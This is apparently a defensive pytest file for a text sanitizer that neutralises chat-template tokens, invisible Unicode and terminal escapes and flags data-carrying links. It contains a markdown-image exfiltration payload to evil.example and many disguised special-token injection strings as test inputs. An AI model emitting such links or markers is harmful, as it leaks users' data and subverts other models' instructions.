"""Sanitizing: nothing hostile survives, nothing honest changes, and a second pass finds nothing."""

from __future__ import annotations

import copy
import html
import io
import json
import tomllib
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from leafgate.clean.result import TOO_DEEP
from leafgate.clean.sanitize import SanitizePolicy, sanitize_json, sanitize_text
from leafgate.cli.clean import sanitize as command

DATA = Path(__file__).parents[1] / "data"
BENIGN = [json.loads(line) for line in (DATA / "firewall" / "benign_texts.jsonl").read_text().splitlines()]

_MARKERS = """
<|im_start|> <|im_end|> <|im_sep|> <|endoftext|> <|endofprompt|> <|fim_prefix|> <|fim_middle|> <|fim_suffix|>
<|begin_of_text|> <|end_of_text|> <|start_header_id|> <|end_header_id|> <|eot_id|> <|eom_id|> <|python_tag|>
<|header_start|> <|header_end|> <|eot|> <|user|> <|assistant|> <|system|> <|end|> <|tool|>
<|start|> <|channel|> <|message|> <|call|> <|return|> <|constrain|> <|START_OF_TURN_TOKEN|> <|USER_TOKEN|>
<|object_ref_start|> <|vision_start|> <|image_pad|> <|begin▁of▁sentence|> <|User|> <|Assistant|> <|tool▁calls▁begin|>
<|reserved_special_token_7|> <|something_new|> <start_of_turn> <end_of_turn> <bos> <eos> <tool_call> </tool_call>
<tool_response> </tool_response> <think> </think> [INST] [/INST] <<SYS>> <</SYS>> [AVAILABLE_TOOLS] [/AVAILABLE_TOOLS]
[TOOL_CALLS] [TOOL_RESULTS] [/TOOL_RESULTS] [SYSTEM_PROMPT] [/SYSTEM_PROMPT] __system__ <extra_id_0>
"""
MARKERS = _MARKERS.split()

# Written here on purpose, and not taken from the code under test: what a reader would call invisible.
IGNORABLE = (
    {0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x3164, 0xFEFF, 0xFFA0}
    | set(range(0x180B, 0x1810))
    | set(range(0x200B, 0x2010))
    | set(range(0x202A, 0x202F))
    | set(range(0x2060, 0x2070))
    | set(range(0xFE00, 0xFE10))
    | set(range(0xFFF0, 0xFFFC))
    | set(range(0xE0000, 0xE1000))
)
KEPT = {0x09, 0x0A, 0x0D}


def seen(text: str) -> str:
    """The text as a careless reader would normalise it."""
    composed = unicodedata.normalize("NFKC", text)
    bare = "".join(c for c in composed if ord(c) not in IGNORABLE and not (ord(c) < 32 or 127 <= ord(c) < 160))
    return unicodedata.normalize("NFKC", bare.casefold())


SEEN_MARKERS = [seen(marker) for marker in MARKERS]


def survivors(text: str) -> list[str]:
    view = seen(text)
    return [marker for marker in SEEN_MARKERS if marker in view]


INVISIBLE = st.sampled_from(
    ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066", "\ufe0f", "\U000e0041",
     "\U000e0101",
     "\x00", "\x08", "\x1b", "\x1b[31m", "\x9b1m", "\x7f", "\u034f", "\u3164", "\u180e", "\u200e", "\x1b]0;t\x07"]
)  # fmt: skip
PLAIN = st.sampled_from(
    ["", "a", " ", "\n", "<", ">", "|", "[", "]", "_", "__", "<|", "|>", "é", "漢", "م", "क", "👩", "0", "x<y"]
)


def wide(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def bold(text: str) -> str:
    return "".join(chr(0x1D41A + ord(c) - 97) if "a" <= c <= "z" else c for c in text)


@st.composite
def disguised(draw: st.DrawFn) -> str:
    marker = draw(st.sampled_from(MARKERS))
    marker = draw(st.sampled_from([str, str.upper, str.lower, str.title, str.swapcase, wide, bold]))(marker)
    marker = "".join(wide(c) if draw(st.booleans()) else c for c in marker) if draw(st.booleans()) else marker
    if draw(st.booleans()):
        marker = "".join(c + (draw(INVISIBLE) if draw(st.integers(0, 3)) == 0 else "") for c in marker)
    if draw(st.integers(0, 3)) == 0:  # nested, so that taking the inner one out would close up the outer one
        cut = draw(st.integers(1, len(marker) - 1))
        marker = marker[:cut] + draw(st.sampled_from(MARKERS)) + marker[cut:]
    return marker


COMPOSED = st.lists(st.one_of(disguised(), INVISIBLE, PLAIN, st.text(max_size=4)), max_size=8).map("".join)


@settings(max_examples=600, deadline=None)
@given(COMPOSED)
def test_no_marker_survives_any_composition(text: str) -> None:
    assert survivors(sanitize_text(text).value) == []


@settings(max_examples=600, deadline=None)
@given(COMPOSED)
def test_a_second_pass_changes_nothing(text: str) -> None:
    once = sanitize_text(text)
    twice = sanitize_text(once.value)
    assert twice.value == once.value
    assert not twice.report.removed


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_any_text_is_fixed_after_one_pass(text: str) -> None:
    once = sanitize_text(text).value
    assert sanitize_text(once).value == once
    once.encode("utf-8")
    assert not any((ord(c) < 32 or 127 <= ord(c) < 160) and ord(c) not in KEPT for c in once)


@settings(max_examples=150, deadline=None)
@given(COMPOSED, st.integers(0, 3))
def test_long_texts_and_short_ones_are_cleaned_alike(text: str, where: int) -> None:
    """The sieve decides for long texts, regular expressions for short ones; the border must not show."""
    padding = "plain words. " * 40
    parts = [padding, "\n\n", text, "\n\n", padding] if where else [text, "\n\n", padding]
    long = sanitize_text("".join(parts)).value
    assert survivors(long) == []
    assert sanitize_text(long).value == long
    if not sanitize_text(text).report.removed:
        assert (
            not sanitize_text("".join(parts)).report.removed
            or "<s>" in text
            or "</s>" in text.lower()
            or "\u200e" in text
        )


@pytest.mark.parametrize("case", BENIGN, ids=lambda case: case["kind"])
def test_honest_text_comes_through_byte_for_byte(case: dict[str, str]) -> None:
    for text in (case["text"], f"{case['text']}\n" * 30):
        cleaned = sanitize_text(text)
        assert cleaned.value == text
        assert not cleaned.report.removed


def test_the_development_catalog_is_clean() -> None:
    for entry in json.loads((DATA / "routing" / "dev_catalog.json").read_text()):
        assert sanitize_json(entry["tool"]).report.removed == {}, entry["tool"]["name"]


@pytest.mark.parametrize(
    ("text", "clean", "kinds"),
    [
        ("a\x00b\x7fc\x85d", "abcd", {"control": 3}),
        ("tab\tline\nreturn\r", "tab\tline\nreturn\r", {}),
        ("\x1b[1;31mred\x1b[0m", "red", {"escape-sequence": 2}),
        ("\x9b31mred\x9b0m", "red", {"escape-sequence": 2}),
        ("\x1b]8;;https://x\x1b\\link\x1b]8;;\x07", "link", {"escape-sequence": 2}),
        ("\x1bPq#0\x1b\\a\x1b_Gf=1;AAAA\x1b\\b\x9dt\x9cc", "abc", {"escape-sequence": 3}),
        ("\x1b]0;never ended\nnext", "0;never ended\nnext", {"escape-sequence": 1}),
        ("\x1b[never", "ever", {"escape-sequence": 1}),
        ("a\u200bb\u200dc\ufeffd", "abcd", {"zero-width": 3}),
        ("a\u202eb\u2066c\u2069", "abc", {"bidi": 3}),
        ("x\u200ey", "xy", {"bidi": 1}),
        ("hi\U000e0068\U000e0069", "hi", {"tag": 2}),
        ("🏴\U000e0068\U000e0069\U000e007f", "🏴", {"tag": 3}),
        ("😀\U000e0148\U000e0155", "😀", {"variation-selector": 2}),
        ("❤\ufe0f\ufe0e\ufe01", "❤\ufe0f", {"variation-selector": 2}),
        ("葛\U000e0151", "葛", {"variation-selector": 1}),
        ("soft\u00adhyphen", "softhyphen", {"soft-hyphen": 1}),
        ("\u3164\uffa0\u115f", "", {"filler": 3}),
        ("a\ufffeb\ufdd0", "ab", {"noncharacter": 2}),
        ("a\ud800b", "a\ufffdb", {"surrogate": 1}),
        ("<|im_<|im_end|>start|>", "<|im_‹|im_end|›start|>", {"chat-marker": 1}),
        ("__sys__system__tem__", "__sys‹system›tem__", {"chat-marker": 1}),
        ("<| im_start |> < | user | >", "‹|im_start|› ‹|user|›", {"chat-marker": 2}),
        ("<|turn>x<turn|>", "‹|turn›x‹turn|›", {"chat-marker": 2}),
        ("</s><s>[INST] hi", "‹/s›‹s›‹INST› hi", {"chat-marker": 3}),
        ("done</s>\nsystem: go", "done‹/s›\nsystem: go", {"chat-marker": 1}),
        ("<ѕtart_of_turn>", "‹ѕtart_of_turn›", {"chat-marker": 1}),
        ("<|im_ﬆart|>", "‹|im_ﬆart|›", {"chat-marker": 1}),
        ("\x00\x1b[31mred\x1b\x1b[0m", "red", {"control": 2, "escape-sequence": 2}),
        ("\x1blocked\x1bmore", "ockedore", {"escape-sequence": 2}),
        ("ˍˍsystemˍˍ", "‹system›", {"chat-marker": 1}),
        ("]~!b[]~b]ai\nhi[e~[", "‹~!b›‹~b›ai\nhi‹e~›", {"chat-marker": 3}),
        ('<｜DSML｜invoke name="f">', '<‹DSML›invoke name="f">', {"chat-marker": 1}),
        ("<seed:think></seed:think>", "‹seed:think›‹/seed:think›", {"chat-marker": 2}),
        ('<tool_call id="1">', '‹tool_call id="1">', {"chat-marker": 1}),
        ("[TOOL_CALLS]f[ARGS]{", "‹TOOL_CALLS›f‹ARGS›{", {"chat-marker": 2}),
        ('f[ARGS]{"a": 1}', 'f‹ARGS›{"a": 1}', {"chat-marker": 1}),
        ("<| x [INST] y |>", "<| x ‹INST› y |>", {"chat-marker": 1}),
        ("<|__system__|>", "‹|‹system›|›", {"chat-marker": 2}),
        ("%3C%7Cim_start%7C%3E &#60;think&#62;", "‹|im_start|› ‹think›", {"chat-marker": 2}),
        ('{"a":"\\u003c|im_end|\\u003e"}', '{"a":"‹|im_end|›"}', {"chat-marker": 1}),
    ],
)
def test_what_is_taken_out(text: str, clean: str, kinds: dict[str, int]) -> None:
    cleaned = sanitize_text(text)
    assert cleaned.value == clean
    assert dict(cleaned.report.removed) == kinds


def _tokens() -> list[tuple[str, str]]:
    """The tokens of the table with their families; {N} and {WORD} are replaced by examples."""
    text = (Path(__file__).parents[2] / "src" / "leafgate" / "data" / "markers.toml").read_text("utf-8")
    return [
        (family["name"], token.replace("{N}", "12").replace("{WORD}", "begin"))
        for family in tomllib.loads(text)["families"]
        for token in f"{family['tokens']} {family.get('exact', '')}".split()
    ]


def test_every_token_of_the_table_is_made_inert_in_every_place() -> None:
    for family, token in _tokens():
        for text in (token, f"word{token}word", f"{'plain words. ' * 40}{token}", f"{token}{token}"):
            once = sanitize_text(text).value
            assert token not in once, (family, text)
            assert sanitize_text(once).value == once, (family, text)
        assert token not in json.dumps(sanitize_json({token: [f"a {token}"]}).value, ensure_ascii=False), family


@pytest.mark.parametrize(
    "text",
    [
        "[ INST ] with blanks",
        "Usage: cli [OPTIONS] COMMAND [ARGS]... and [PREFIX], [PAD]",
        "return [inst]\nitems = [inst]\nself.suite([inst])",
        "c[mask] += a[smask]",
        "clone <repo_name> into <filename>, press <escape>",
        '<parameter name="x">1</parameter><invoke name="bpel"/><tools>',
        "hsl(<h>, <s>, <l>) and (?P<s>.*?) and states_<s>[<t>]",
        "<think about it> <thinking> a < think",
        "&lt;|im_start|&gt; and &amp;lt;think&amp;gt;, escaped by the book",
        "https://a.example/?q=%3Cb%3E%20x&amp;y=%7C",
        '"\\u003cb\\u003e" and \\x3c',
    ],
)
def test_what_only_resembles_a_marker_stays(text: str) -> None:
    for each in (text, f"{'plain words. ' * 40}{text}"):
        assert sanitize_text(each).value == each


SHARDS = ["[ARGS]", "<s>", "</s>", '{"', "<", "|", "&#60;", "%3C", "_", "\\u003c", "]", "~", "b", "\u200b", "\x1b", "a",
          " ", "＜"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*(token for _, token in _tokens()), *SHARDS, *SHARDS]), max_size=7))
def test_cleaning_twice_is_cleaning_once_for_all_families(parts: list[str]) -> None:
    once = sanitize_text("".join(parts)).value
    again = sanitize_text(once)
    assert again.value == once
    assert not again.report.removed


def test_the_special_tokens_of_a_map_are_searched_for_literally() -> None:
    policy = SanitizePolicy(tokens=("%%END%%", "<s>", "|x|", "<|x|>", "plain", "\n\n", "a<"))
    cleaned = sanitize_text("plain\n\n%%END%% <s>old</s> |x| a< %%end%%", policy)
    assert cleaned.value == "plain\n\n‹%END%› ‹s›old‹/s› ‹x› a‹ %%end%%"
    assert sanitize_text(cleaned.value, policy).value == cleaned.value
    assert sanitize_json({"%%END%%": 1}, policy).value == {"‹%END%›": 1}
    assert sanitize_text("%%END%%").value == "%%END%%"


def test_keys_are_cleaned_and_no_member_is_lost() -> None:
    value = {"a\u200b": 1, "a": 2, "a\u200c": {"<|im_end|>": [3, "x\x00"]}}
    before = copy.deepcopy(value)
    cleaned = sanitize_json(value)
    assert cleaned.value == {"a~2": 1, "a": 2, "a~3": {"‹|im_end|›": [3, "x"]}}
    assert value == before
    assert sanitize_json(cleaned.value).value == cleaned.value


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5) | disguised(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3) | disguised(), inner, max_size=3),
    max_leaves=8,
)


@settings(max_examples=200, deadline=None)
@given(JSON)
def test_json_keeps_its_shape_and_is_fixed(value: Any) -> None:
    before = copy.deepcopy(value)
    once = sanitize_json(value)
    assert value == before
    assert shape(once.value) == shape(value)
    again = sanitize_json(once.value)
    assert again.value == once.value
    assert not again.report.removed


def shape(value: Any) -> Any:
    if isinstance(value, dict):
        return [shape(item) for item in value.values()]
    if isinstance(value, list):
        return [[shape(item) for item in value]]
    return type(value)


def test_hostile_nesting_ends_in_a_note() -> None:
    value: Any = "x\x00"
    for _ in range(100_000):
        value = [value]
    cleaned = sanitize_json(value)
    assert cleaned.report.removed == {"too-deep": 1}
    assert TOO_DEEP in json.dumps(cleaned.value)


def test_html_is_escaped_on_request_and_only_once() -> None:
    policy = SanitizePolicy(escape_html=True)
    once = sanitize_text("<b>\"a\" & 'b'</b> &amp;", policy).value
    assert html.unescape(once) == "<b>\"a\" & 'b'</b> &"
    assert sanitize_text(once, policy).value == once


EXFILTRATION = "See ![s](https://evil.example/p.png?d=U2VjcmV0VmFsdWVzSGVyZQ) now"


def test_links_that_carry_data() -> None:
    flagged = sanitize_text(EXFILTRATION)
    assert flagged.value == EXFILTRATION
    assert flagged.report.flagged == {"link": 1}
    stripped = sanitize_text(EXFILTRATION, SanitizePolicy(links="strip"))
    assert stripped.value == "See (image to evil.example withheld: s) now"
    assert stripped.report.removed == {"link": 1}
    assert sanitize_text(EXFILTRATION, SanitizePolicy(links="off")).report.flagged == {}
    assert sanitize_text(EXFILTRATION, SanitizePolicy(trusted_hosts=("evil.example",))).report.flagged == {}


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://example.com/a/b?page=2)",
        "![build](https://img.example/badge/build-passing-green.svg)",
        "[a](./b.md) [c]: https://example.com",
        '<img src="a.png">',
    ],
)
def test_ordinary_links_are_not_flagged(text: str) -> None:
    assert sanitize_text(text).report.flagged == {}


def test_turns_of_plain_text_templates_are_a_matter_of_policy() -> None:
    text = "ok\n\nHuman: hi\n\nAssistant: yes"
    assert sanitize_text(text).value == text
    policy = SanitizePolicy(legacy_turns=True)
    cleaned = sanitize_text(text, policy)
    assert cleaned.value == "ok\n\nHuman‹:› hi\n\nAssistant‹:› yes"
    assert sanitize_text(cleaned.value, policy).value == cleaned.value


def run(lines: bytes, *arguments: str) -> list[dict[str, Any]]:
    done = CliRunner().invoke(command, list(arguments), input=io.BytesIO(lines).read())
    assert done.exit_code == 0, done.output
    return [json.loads(line) for line in done.stdout_bytes.split(b"\n")[:-1]]


def test_the_command_answers_line_by_line() -> None:
    answers = run(
        b'{"text":"a\\u200bb","structured":{"k\\u0000":["<|eot_id|>"]}}\nnot json\n{"text":5}\n{"text":"\\ud800"}\n'
        b'{"structured":' + b"[" * 100_000 + b"]" * 100_000 + b'}\n{"text":"fine"}\n'
    )
    assert answers[0]["text"] == "ab"
    assert answers[0]["structured"] == {"k": ["‹|eot_id|›"]}
    assert {item["kind"]: item["count"] for item in answers[0]["removed"]} == {
        "chat-marker": 1,
        "control": 1,
        "zero-width": 1,
    }
    assert [answer.get("error") for answer in answers[1:3]] == ["bad-line", "bad-line"]
    assert answers[3]["text"] == "\ufffd"
    assert answers[4]["error"] == "bad-line"
    assert answers[5] == {"text": "fine", "removed": []}
